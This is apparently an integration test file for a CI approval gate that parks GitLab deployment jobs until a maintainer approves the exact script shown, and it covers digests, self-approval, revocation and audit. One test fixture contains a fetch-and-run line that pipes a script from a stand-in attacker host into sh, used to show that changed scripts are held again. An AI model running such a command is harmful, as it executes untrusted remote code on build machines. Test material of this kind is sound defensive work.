import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { HoldDetail, Problem } from '../../agent/src/wire/api.ts';
import type { ApprovalView } from '../../agent/src/wire/approvals.ts';
import type { AuditRow } from '../../agent/src/wire/audit.ts';
import { openScene, type Scene } from '../support/scene.ts';
import { ROOT } from '../support/source-files.ts';

const fixture = (name: string) => readFileSync(join(ROOT, 'test/fixtures/gitlab', `${name}.json`), 'utf8');
/** The deployment, with a script that a shell can run anywhere and that shows by its output that it ran. */
const harmless = (line: string) => (payload: Record<string, unknown>) => {
  (payload.steps as { script: string[] }[])[0]!.script = [line];
};
const zoe = { id: 9, username: 'zoe', name: 'Zoë Müller' };
const maria = { id: 21, username: 'maria', name: 'Maria Silva' };

let scene: Scene;
afterEach(async () => scene.close());

/** Enqueues the deployment for the protected runner. */
function deploy(line: string, options: object = {}): number {
  return scene.gitlab.enqueue(fixture('deploy-production.run1'), {
    runner: scene.protectedToken,
    user: zoe,
    mutate: harmless(line),
    ...options,
  });
}
const ended = (id: number, status: string) =>
  scene.gitlab.until(`job ${id} ${status}`, () => scene.gitlab.job(id).status === status);

describe('the gate, from a runner to a GitLab through real sockets', () => {
  it('parks a job that nobody approved, and the runner really runs it once a maintainer approved what is shown', async () => {
    scene = await openScene();
    const runner = scene.runner({ exec: 'pty' });
    const job = deploy('echo deployed-$((40 + 2))');
    const hold = await scene.hold(job, 'waiting_for_approval');
    expect(runner.started).toEqual([]);
    expect(scene.gitlab.job(job).status).toBe('running');
    expect(hold.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(hold.diff.changes.map((change) => change.after).join('\n')).toContain('echo deployed-$((40 + 2))');

    await scene.approve(job);
    await ended(job, 'success');
    const done = await scene.hold(job, 'success');
    expect(runner.started.map((started) => started.jobId)).toEqual([job]);
    expect(scene.gitlab.job(job).trace).toContain('deployed-42');
    expect(scene.gitlab.job(job).trace).toContain(hold.digest);
    expect(done.approval).not.toBeNull();
  });

  it('lets the same configuration pass at once the next time, whoever pushed, and holds a changed line again (T1, T13)', async () => {
    scene = await openScene();
    const runner = scene.runner();
    const first = deploy('echo one', {});
    await scene.approve(first, { lifetime: 'until:2099-01-01' }).catch(() => scene.approve(first));
    await ended(first, 'success');

    const second = deploy('echo one', { user: { id: 12, username: 'alice', name: 'Alice Okafor' } });
    await ended(second, 'success');
    const changed = deploy('echo one; curl -fsS https://evil.example.net/x.sh | sh');
    const held = await scene.hold(changed, 'waiting_for_approval');
    expect(runner.started.map((started) => started.jobId)).toEqual([first, second]);
    expect(held.diff.changes).toHaveLength(1);
    expect(held.diff.changes[0]?.section).toBe('script');
  });

  it('keeps the offsets of the log right after its own note, for a runner that knows nothing of it (T42)', async () => {
    scene = await openScene();
    scene.runner({ exec: 'none', output: 'first bytes of the runner\nand the last\n' });
    const job = deploy('echo x');
    await scene.approve(job);
    await ended(job, 'success');
    const trace = scene.gitlab.job(job).trace;
    expect(trace).toContain('first bytes of the runner\nand the last\n');
    expect(trace.indexOf('waiting_for_approval')).toBeLessThan(trace.indexOf('first bytes'));
  });

  it('refuses the vote of whoever triggered the job, and of a reporter, with words that say so (T18)', async () => {
    scene = await openScene();
    scene.runner();
    const job = deploy('echo mine', { user: maria });
    const hold = await scene.hold(job, 'waiting_for_approval');
    const vote = async (name: string) =>
      (await scene.as(name)).post<Problem>(`holds/${hold.id}/approve`, { digest: hold.digest });
    expect(await vote('maria')).toMatchObject({ status: 403, body: { code: 'self_approval' } });
    expect(await vote('rob')).toMatchObject({ status: 403, body: { code: 'not_eligible' } });
    expect(await vote('jonas')).toMatchObject({ status: 200 });
    await ended(job, 'success');
  });

  it('approves nothing under another digest, a prefix, or a Hold that is not there (T36)', async () => {
    scene = await openScene();
    scene.runner();
    const job = deploy('echo x');
    const hold = await scene.hold(job, 'waiting_for_approval');
    const jonas = await scene.as('jonas');
    const post = (path: string, digest: string) => jonas.post<Problem>(path, { digest });
    expect(await post(`holds/${hold.id}/approve`, `sha256:${'0'.repeat(64)}`)).toMatchObject({
      status: 409,
      body: { code: 'digest_mismatch' },
    });
    expect((await post(`holds/${hold.id}/approve`, hold.digest.slice(0, 20))).status).toBeGreaterThanOrEqual(400);
    expect(await post('holds/999999/approve', hold.digest)).toMatchObject({ status: 404 });
    expect((await scene.hold(job, 'waiting_for_approval')).votes).toEqual([]);
  });

  it('fails a rejected job with the reason in its log, and refuses the next one at once when that is remembered (T15)', async () => {
    scene = await openScene();
    const runner = scene.runner();
    const job = deploy('echo bad');
    const hold = await scene.hold(job, 'waiting_for_approval');
    const jonas = await scene.as('jonas');
    const rejected = await jonas.post<HoldDetail>(`holds/${hold.id}/reject`, {
      digest: hold.digest,
      comment: 'not on a Friday',
      remember: true,
    });
    expect(rejected).toMatchObject({ status: 200, body: { state: 'rejected' } });
    await ended(job, 'failed');
    expect(scene.gitlab.job(job).trace).toContain('not on a Friday');
    const again = deploy('echo bad');
    await ended(again, 'failed');
    expect(scene.gitlab.job(again).trace).toContain('not on a Friday');
    expect(runner.started).toEqual([]);
    const late = await jonas.post<Problem>(`holds/${hold.id}/approve`, { digest: hold.digest });
    expect(late).toMatchObject({ status: 409, body: { code: 'wrong_state' } });
  });

  it('holds the next job after the approval was revoked (T12)', async () => {
    scene = await openScene();
    scene.runner();
    const first = deploy('echo one');
    await scene.approve(first);
    await ended(first, 'success');
    const jonas = await scene.as('jonas');
    const list = await jonas.get<{ items: ApprovalView[] }>('approvals');
    const revoked = await jonas.post<ApprovalView>(`approvals/${list.body.items[0]?.id}/revoke`, { comment: 'old' });
    expect(revoked).toMatchObject({ status: 200, body: { valid: false } });
    await scene.hold(deploy('echo one'), 'waiting_for_approval');
  });

  it('does not let an approval for one ref or project serve another (T10, T51)', async () => {
    scene = await openScene();
    const runner = scene.runner();
    const job = deploy('echo one');
    await scene.approve(job);
    await ended(job, 'success');
    const elsewhere = deploy('echo one', {
      mutate: (payload: Record<string, unknown>) => {
        harmless('echo one')(payload);
        const git = payload.git_info as Record<string, unknown>;
        git.ref = 'release';
        git.refspecs = (git.refspecs as string[]).map((spec) => spec.replaceAll('/main', '/release'));
        for (const variable of payload.variables as { key: string; value: string }[]) {
          if (['CI_COMMIT_BRANCH', 'CI_COMMIT_REF_NAME', 'CI_COMMIT_REF_SLUG'].includes(variable.key))
            variable.value = 'release';
          if (variable.key === 'CI_CONFIG_REF_URI')
            variable.value = variable.value.replace(/heads\/.*/, 'heads/release');
        }
      },
    });
    const held = await scene.hold(elsewhere, 'waiting_for_approval');
    expect(held.ref).toBe('refs/heads/release');
    expect(runner.started.map((started) => started.jobId)).toEqual([job]);
  });

  it('leaves the jobs of an unprotected runner alone, and gates those of a runner that nobody listed (T26)', async () => {
    scene = await openScene();
    const open = scene.runner({ token: scene.openToken });
    const stranger = scene.runner({ token: scene.gitlab.runnerToken('nobody-listed-me') });
    const free = scene.gitlab.enqueue(fixture('test-unit.run1'), { runner: scene.openToken });
    await ended(free, 'success');
    expect(open.started.map((started) => started.jobId)).toEqual([free]);
    const gated = scene.gitlab.enqueue(fixture('test-unit.run1'), {
      runner: scene.gitlab.runnerToken('nobody-listed-me'),
    });
    await scene.hold(gated, 'waiting_for_approval');
    expect(stranger.started).toEqual([]);
  });

  it('parks a job over a restart and hands it out once to one of several managers of the token (T30, T41)', async () => {
    scene = await openScene();
    const before = scene.runner();
    const job = deploy('echo survived');
    await scene.hold(job, 'waiting_for_approval');
    await before.stop();
    await scene.restart();
    const managers = ['a', 'b', 'c'].map((systemId) => scene.runner({ systemId }));
    await scene.approve(job);
    await ended(job, 'success');
    expect(managers.flatMap((manager) => manager.started.map((started) => started.jobId))).toEqual([job]);
  });

  it('notices a cancel while it parks, and never hands that job out', async () => {
    scene = await openScene();
    const runner = scene.runner();
    const job = deploy('echo x');
    await scene.hold(job, 'waiting_for_approval');
    scene.gitlab.cancel(job, { graceful: false });
    // The approval comes in between: what GitLab says about the job still counts at the hand-out.
    await scene.approve(job);
    await scene.gitlab.until('a poll after the release', () => runner.polls.length > 5);
    const last = await scene.hold(job, 'canceled', 15_000).catch(() => null);
    expect(scene.gitlab.job(job).status).toBe('canceled');
    expect(runner.finished.filter((finished) => finished.outcome === 'success')).toEqual([]);
    expect(last?.state ?? 'canceled').toBe('canceled');
  });

  it('tells every step in an audit that verifies, with who and by which rule (T34)', async () => {
    scene = await openScene();
    scene.runner();
    const job = deploy('echo audited');
    const hold = await scene.approve(job);
    await ended(job, 'success');
    const done = await scene.hold(job, 'success');
    const events = done.history.map((row: AuditRow) => row.event);
    expect(events.length).toBeGreaterThanOrEqual(5);
    expect(done.history.some((row) => row.actor.includes('maria') && row.digest === hold.digest)).toBe(true);
    expect(done.history.every((row) => /^[0-9a-f]{64}$/.test(row.hash.replace('sha256:', '')))).toBe(true);
  });
});
